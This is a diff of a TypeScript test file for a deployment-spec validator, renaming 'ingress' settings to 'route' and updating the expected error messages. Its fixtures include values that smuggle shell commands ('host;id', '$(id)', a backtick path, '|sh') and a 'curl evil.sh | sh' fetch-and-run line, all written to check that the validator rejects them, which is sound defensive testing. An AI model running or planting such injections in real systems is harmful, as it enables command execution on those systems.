@@ -94,11 +94,11 @@ test.each<[string, Mutation, string, RegExp]>([
     'services[0].image',
     /must not use the mutable tag "latest"/,
   ],
-  ['an ingress has no host', apiWith({ ingress: { host: '' } }), 'services[0].ingress.host', /an ingress needs a host/],
+  ['a route has no host', apiWith({ route: { host: '' } }), 'services[0].route.host', /a route needs a host/],
   [
-    'an ingress host is not a DNS name',
-    apiWith({ ingress: { host: 'https://shop.example.com' } }),
-    'services[0].ingress.host',
+    'a route host is not a DNS name',
+    apiWith({ route: { host: 'https://shop.example.com' } }),
+    'services[0].route.host',
     /must be a DNS name/,
   ],
   [
@@ -129,27 +129,9 @@ test.each<[string, Mutation, string, RegExp]>([
     /basic role/,
   ],
   [
-    'a gce ingress names a cert-manager issuer',
-    apiWith({ ingress: { host: 'shop.example.com', className: 'gce', clusterIssuer: 'letsencrypt-prod' } }),
-    'services[0].ingress.clusterIssuer',
-    /Google-managed certificate: drop clusterIssuer/,
-  ],
-  [
-    'a gce ingress serves a wildcard host',
-    apiWith({ ingress: { host: '*.shop.example.com', className: 'gce' } }),
-    'services[0].ingress.host',
-    /do not cover wildcard hosts/,
-  ],
-  [
-    'connection draining is asked of ingress-nginx',
-    apiWith({ ingress: { host: 'shop.example.com', drainingSeconds: 30 } }),
-    'services[0].ingress.drainingSeconds',
-    /setting of the gce load balancer/,
-  ],
-  [
-    'an ingress ClusterIssuer is not a valid name',
-    apiWith({ ingress: { host: 'shop.example.com', clusterIssuer: 'Lets Encrypt' } }),
-    'services[0].ingress.clusterIssuer',
+    "the edge's ClusterIssuer is not a valid name",
+    (s) => (s.edge = { clusterIssuer: 'Lets Encrypt' }),
+    'edge.clusterIssuer',
     /must be a ClusterIssuer name/,
   ],
   [
@@ -216,16 +198,16 @@ test.each<[string, Mutation, string, RegExp]>([
     /the URL carries a password/,
   ],
   [
-    'a worker has an ingress',
-    (s) => ((s.services as Record<string, unknown>[])[1].ingress = { host: 'w.example.com' }),
-    'services[1].ingress',
+    'a worker has a route',
+    (s) => ((s.services as Record<string, unknown>[])[1].route = { host: 'w.example.com' }),
+    'services[1].route',
     /a worker has no Service/,
   ],
   [
-    'the ingress port is not a port name',
-    apiWith({ ingress: { host: 'shop.example.com', port: 'admin' } }),
-    'services[0].ingress.port',
-    /"admin" is not one of the service's port names/,
+    'the route port is not a port name',
+    apiWith({ route: { host: 'shop.example.com', port: 'admin' } }),
+    'services[0].route.port',
+    /"admin" is not a port of service "api" \(http, grpc, metrics\)/,
   ],
   ['the container runs as root', apiWith({ runAsUser: 0 }), 'services[0].runAsUser', /must not run as root/],
   [
@@ -357,10 +339,10 @@ test.each<[string, Mutation, string, RegExp]>([
   ],
   ['a migration has no command', apiWith({ migration: { command: [] } }), 'services[0].migration.command', /a migration needs a command/],
   [
-    'a rate limit is set on a gce ingress',
-    apiWith({ ingress: { host: 'shop.example.com', className: 'gce', rateLimitRps: 10 } }),
-    'services[0].ingress.rateLimitRps',
-    /is an ingress-nginx setting/,
+    'a rate limit is zero',
+    apiWith({ route: { host: 'shop.example.com', rateLimit: { requestsPerSecond: 0 } } }),
+    'services[0].route.rateLimit.requestsPerSecond',
+    /0 must be an integer between 1 and 1000000/,
   ],
   [
     'an egress rule has no ports',
@@ -468,7 +450,7 @@ test('values not known until deploy time are skipped, not rejected', () => {
   const output = { __pulumiOutput: true };
   const withTokens = {
     ...spec,
-    services: [{ ...api, image: token, ingress: { host: token } }, ...spec.services.slice(1)],
+    services: [{ ...api, image: token, route: { host: token, maxBodySize: token } }, ...spec.services.slice(1)],
     postgres: { storageGiB: output as unknown as number },
   };
   expect(check(withTokens)).toEqual([]);
@@ -599,15 +581,15 @@ describe('formats of what reaches the runbook and the diagram', () => {
     ['a probe path climbs with ..', probePath('/a/../admin'), 'services[0].probes.readiness.path', /no "\/\/", "\." or "\.\." segment/],
     ['a probe query chains parameters with &', probePath('/healthz?a=1&touch'), 'services[0].probes.readiness.path', /no "&"/],
     [
-      'an ingress path has a query',
-      apiWith({ ingress: { host: 'shop.example.com', path: '/api?x=1' } }),
-      'services[0].ingress.path',
+      'a route path has a query',
+      apiWith({ route: { host: 'shop.example.com', path: '/api?x=1' } }),
+      'services[0].route.path',
       /"\/api\?x=1" must be an HTTP path such as "\/api": .*, and no query/,
     ],
     [
-      'an ingress path holds a backtick',
-      apiWith({ ingress: { host: 'shop.example.com', path: '/`id`' } }),
-      'services[0].ingress.path',
+      'a route path holds a backtick',
+      apiWith({ route: { host: 'shop.example.com', path: '/`id`' } }),
+      'services[0].route.path',
       /must be an HTTP path/,
     ],
     [
@@ -623,12 +605,7 @@ describe('formats of what reaches the runbook and the diagram', () => {
       /"\/healthz\|sh" must be an HTTP path such as "\/healthz"/,
     ],
     ['the failover DNS name holds a command', dr(dns({ name: 'shop.example.com$(id)' })), 'dr.dns.name', /must be a host name/],
-    [
-      'an ingress host holds a command',
-      apiWith({ ingress: { host: 'shop.example.com;id' } }),
-      'services[0].ingress.host',
-      /must be a DNS name/,
-    ],
+    ['a route host holds a command', apiWith({ route: { host: 'shop.example.com;id' } }), 'services[0].route.host', /must be a DNS name/],
     [
       'a scenario opens a shell block',
       objective('database\n```sh\ncurl evil.sh | sh\n```'),
@@ -666,8 +643,8 @@ describe('formats of what reaches the runbook and the diagram', () => {
     ],
     ['a probe path with a query', probePath('/healthz?verbose=1')],
     [
-      'an ingress path and a metrics path',
-      apiWith({ ingress: { host: 'shop.example.com', path: '/api/v1' }, metrics: { port: 'metrics', path: '/internal/metrics' } }),
+      'a route path and a metrics path',
+      apiWith({ route: { host: 'shop.example.com', path: '/api/v1' }, metrics: { port: 'metrics', path: '/internal/metrics' } }),
     ],
     ['a scenario in words', objective("zone loss (one AZ), tenant's data")],
   ])('accepts %s', (_what, mutate) => {
